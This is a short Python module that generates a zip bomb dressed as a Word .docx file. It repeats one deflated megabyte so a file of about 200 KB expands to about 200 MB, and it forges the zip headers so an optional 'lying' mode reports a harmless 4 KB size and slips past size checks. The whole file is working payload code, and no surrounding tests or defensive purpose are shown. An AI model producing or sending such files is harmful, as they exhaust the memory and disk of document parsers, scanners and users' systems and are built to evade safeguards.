"""A zip bomb in a Word file's clothes: 200 KB on disk that inflate to 200 MB.

The same compressed megabyte is repeated, so that making one takes no time worth speaking of.
"""

import io
import struct
import zipfile
import zlib

_MEGABYTES = 200
_SAID_BY_A_LIAR = 4096
_NAME = "word/document.xml"
_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w='
    b'"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
)
_TAIL = b"</w:t></w:r></w:p></w:body></w:document>"
_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_LONG_AGO = (1980, 1, 1, 0, 0, 0)
# Where the sizes of the last entry stand in the zip's two lists, from the start of its header.
_LOCAL_SIZE, _DIRECTORY_SIZE = 22, 24


def bomb(*, lying: bool) -> bytes:
    """A file whose directory tells its true size, or (`lying`) a harmless one."""
    packed, crc, inflated = _packed()
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(zipfile.ZipInfo("[Content_Types].xml", _LONG_AGO), _TYPES)
        archive.writestr(zipfile.ZipInfo(_NAME, _LONG_AGO), packed)
    data = bytearray(held.getvalue())
    said = _SAID_BY_A_LIAR if lying else inflated
    local = data.index(b"PK\x03\x04", 1)
    directory = data.rindex(b"PK\x01\x02")
    for start, size in ((local, _LOCAL_SIZE), (directory, _DIRECTORY_SIZE)):
        method = start + size - 14
        struct.pack_into("<H", data, method, zipfile.ZIP_DEFLATED)
        struct.pack_into("<I", data, start + size - 8, crc)
        struct.pack_into("<I", data, start + size, said)
    return bytes(data)


def _packed() -> tuple[bytes, int, int]:
    """The bomb's one part deflated, with its checksum and its true size.

    After a full flush a deflate stream depends on nothing before it, so pieces can be repeated.
    """
    megabyte = b"A" * (1024 * 1024)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = packer.compress(_HEAD) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(megabyte) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(_TAIL) + packer.flush()
    crc = zlib.crc32(_HEAD)
    for _ in range(_MEGABYTES):
        crc = zlib.crc32(megabyte, crc)
    inflated = len(_HEAD) + _MEGABYTES * len(megabyte) + len(_TAIL)
    return head + piece * _MEGABYTES + tail, zlib.crc32(_TAIL, crc), inflated
